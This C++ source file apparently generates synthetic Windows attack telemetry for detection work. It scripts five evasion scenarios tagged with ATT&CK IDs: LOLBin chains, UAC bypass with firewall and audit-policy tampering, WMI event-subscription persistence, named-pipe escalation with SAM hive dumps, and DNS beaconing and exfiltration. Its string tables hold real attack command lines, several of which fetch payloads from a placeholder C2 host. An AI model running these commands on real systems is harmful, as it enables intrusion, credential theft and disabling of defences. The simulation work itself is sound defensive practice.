// SPDX-License-Identifier: Apache-2.0
//
// Hiding behind what Windows brings: signed binaries, WMI, pipes, DNS, switched-off defences.
#include "stages/produce/synthetic/attack/moves.h"
#include "stages/produce/synthetic/log/security.h"
#include "stages/produce/synthetic/log/sysmon.h"
#include "stages/produce/synthetic/log/windows.h"

namespace tocsin::synthetic {
namespace {

void lolbin_chain(Attack& a) {
  Person& person = a.victim();
  const Process shell = a.open(person, "cmd");
  a.let("file", R"({dropdir}\{h6})");
  struct Bin {
    std::string_view technique;
    std::string_view program;
    std::string_view command;
  };
  static constexpr Bin kBins[] = {
      {"T1140", "certutil", R"(certutil -decode {file}.txt {file}.exe)"},
      {"T1140", "certutil", R"(certutil.exe -decodehex {file}.b64 {file}.dll)"},
      {"T1218.005", "mshta",
       R"(mshta.exe javascript:a=(GetObject("script:http://{@c2}/{h4}.sct")).Exec();close();)"},
      {"T1218.005", "mshta",
       R"(mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop"",0:close"))"},
      {"T1218.010", "regsvr32", R"(regsvr32 /s /n /u /i:http://{@c2}/{h6}.sct scrobj.dll)"},
      {"T1218.010", "regsvr32", R"(regsvr32.exe /s {file}.ocx)"},
      {"T1218.004", "installutil",
       R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U {file}.dll)"},
      {"T1218.003", "cmstp", R"(cmstp.exe /ni /s {file}.inf)"},
      {"T1127.001", "msbuild_fx",
       R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe {file}.xml)"},
      {"T1197", "bitsadmin",
       R"(bitsadmin /transfer {h6} /download /priority foreground http://{@c2}/{h4}.exe {file}.exe)"},
      {"T1218.011", "rundll32",
       R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{@c2}/{h4}"))"},
      {"T1218.011", "rundll32", R"(rundll32.exe url.dll,FileProtocolHandler {file}.hta)"},
      {"T1218.007", "msiexec", R"(msiexec /q /i http://{@c2}/{h6}.msi)"},
      {"T1202", "pcalua", R"(pcalua.exe -a {file}.exe)"},
      {"T1202", "forfiles", R"(forfiles /p c:\windows\system32 /m notepad.exe /c {file}.exe)"},
      {"T1218.009", "regasm",
       R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe /U {file}.dll)"}};
  const std::size_t offset = a.world.rng.below(std::size(kBins));
  Process last = shell;
  for (std::size_t i = 0; i < 6; ++i) {
    const Bin& bin = kBins[(offset + i * 5) % std::size(kBins)];
    a.step("stealth", bin.technique);
    last = a.run(shell, bin.program, {bin.command});
    if (bin.command.find("http") != std::string_view::npos)
      a.does(last, {"dns {@c2}", "net {@c2}:80"});
    else
      a.does(last, {"file {file}.exe"});
    a.pause(15, 90);
  }
  const Process stager = moves::stage(a, last);
  moves::persist(a, stager);
}

void uac_to_tamper(Attack& a) {
  Person& person = a.victim();
  const Process stager = moves::stage(a, a.open(person, "explorer"));
  const Process implant = moves::implant(a, stager);
  moves::bypass_uac(a, stager);
  const Process high = a.run_as(implant, implant.logon, "High", "cmd",
                                {R"("C:\Windows\System32\cmd.exe" /c {payload})"});
  moves::impair_defender(a, high);
  a.step("defense-impairment", "T1686.003");
  a.run(
      high, "netsh",
      {"netsh advfirewall set allprofiles state off",
       R"(netsh advfirewall firewall add rule name="{h6}" dir=in action=allow program="{payload}" enable=yes)"});
  a.step("defense-impairment", "T1685.001");
  a.run(high, "auditpol",
        {R"(auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable)",
         "auditpol /clear /y"});
  security::audit_policy_changed(a.world, a.at, *high.host, high.logon,
                                 "0CCE9215-69AE-11D9-BED3-505054503030");
  a.step("persistence", "T1543.003");
  a.let("svc", "{svcname}");
  a.run(high, "sc",
        {R"(sc.exe create {svc} binPath= "{payload} -k" start= auto)",
         R"(sc create {svc} binpath= "cmd /c {payload}" type= own start= auto)"},
        {R"(set HKLM\System\CurrentControlSet\Services\{svc}\ImagePath = {payload} -k)"});
  windows::service_installed(a.world, a.at, *high.host, *high.logon.account, a.text("{svc}"),
                             a.text("{payload} -k"), "auto start");
  moves::clear_logs(a, high);
}

void wmi_subscription(Attack& a) {
  Person& person = a.victim();
  const Process shell = moves::stage(a, a.open(person, "explorer"));
  a.let("filter", "{wminame}");
  a.let("command", R"(powershell.exe -nop -w hidden -enc {enc:ps_stage})");
  a.step("persistence", "T1546.003");
  a.does(shell,
         {"script $f=Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments "
          "@{Name='{filter}';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM "
          "__InstanceModificationEvent WITHIN 60'}"});
  const Process& provider = a.at_host(*shell.host, "wmiprvse");
  sysmon::wmi_filter(a.world, a.at, provider, a.text("{filter}"),
                     "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                     "'Win32_PerfFormattedData_PerfOS_System'");
  sysmon::wmi_consumer(a.world, a.at + kMillisecond, provider, a.text("{filter}"), "Command Line",
                       a.text("{command}"));
  sysmon::wmi_binding(a.world, a.at + 2 * kMillisecond, provider, a.text("{filter}"),
                      a.text("{filter}"));
  windows::wmi_subscription(a.world, a.at + 3 * kMillisecond, *shell.host, a.text("{filter}"),
                            a.text("{filter}"), a.text("{command}"));
  a.pause(60, 120);
  a.step("execution", "T1047");
  const Process fired =
      a.run_as(provider, a.system(), "System", "powershell", {"{command}"}, {"script {ps_stage}"});
  moves::beacon(a, fired, 4);
  moves::discover(a, fired);
  moves::spread(a, fired, a.world.estate.admins[0], a.elsewhere(*shell.host));
}

void beacon_pipes(Attack& a) {
  Person& person = a.victim();
  const Process stager = moves::stage(a, a.open(person, "explorer"));
  const Process implant = moves::implant(a, stager);
  moves::inject(a, implant);
  moves::beacon(a, implant, 4);
  a.step("privilege-escalation", "T1134.001");
  a.let("pipe", "{h6}");
  a.let("svc", "{h7}");
  a.does(implant, {"pipe \\{pipe}"});
  windows::service_installed(
      a.world, a.at, *implant.host, *implant.logon.account, a.text("{svc}"),
      a.text(R"(C:\Windows\system32\cmd.exe /c echo {h11} > \\.\pipe\{pipe})"));
  const Process system = a.run_as(
      a.at_host(*implant.host, "services"), a.system(), "System", "cmd",
      {R"(C:\Windows\system32\cmd.exe /c echo {h11} > \\.\pipe\{pipe})"}, {"pipeto \\{pipe}"});
  moves::dump_lsass(a, system);
  a.step("credential-access", "T1003.002");
  a.run(system, "reg",
        {R"(reg save HKLM\SAM {dropdir}\{h4}.hiv)",
         R"(reg.exe save hklm\security {dropdir}\{h6}.dat /y)"});
  moves::discover(a, stager);
  moves::spread(a, stager, a.world.estate.admins[0], a.elsewhere(*implant.host));
}

void dns_beacon(Attack& a) {
  Person& person = a.victim();
  const Process shell = a.open(person, "powershell");
  a.let("zone", "{c2}");
  const Process implant = moves::implant(a, shell);
  a.step("command-and-control", "T1071.004");
  for (int i = 0; i < 14; ++i) {
    a.does(implant, {"dns {h32}{h8}.{h16}.{zone}"});
    a.pause(2, 15);
  }
  if (a.chance(60))
    a.run(shell, "nslookup",
          {"nslookup -q=TXT {h8}.{zone}",
           "nslookup.exe -querytype=TXT -timeout=10 {h6}.{zone} {@c2}"});
  moves::discover(a, shell);
  a.step("exfiltration", "T1048.003");
  for (int i = 0; i < 12; ++i) {
    a.does(implant, {"dns {h32}{h16}.{h32}.{n3}.{zone}"});
    a.pause(0, 3);
  }
}

constexpr Scenario kScenarios[] = {
    {"lolbin-chain", "Signed Windows programs do all the work", lolbin_chain},
    {"uac-to-tamper", "From a user's click to switched-off defences", uac_to_tamper},
    {"wmi-subscription", "An event subscription that starts the implant again", wmi_subscription},
    {"beacon-pipes", "Injected beacons, named pipes, SYSTEM by impersonation", beacon_pipes},
    {"dns-beacon", "Commands and files carried by DNS", dns_beacon},
};

}  // namespace

std::span<const Scenario> evasion_scenarios() { return kScenarios; }

}  // namespace tocsin::synthetic
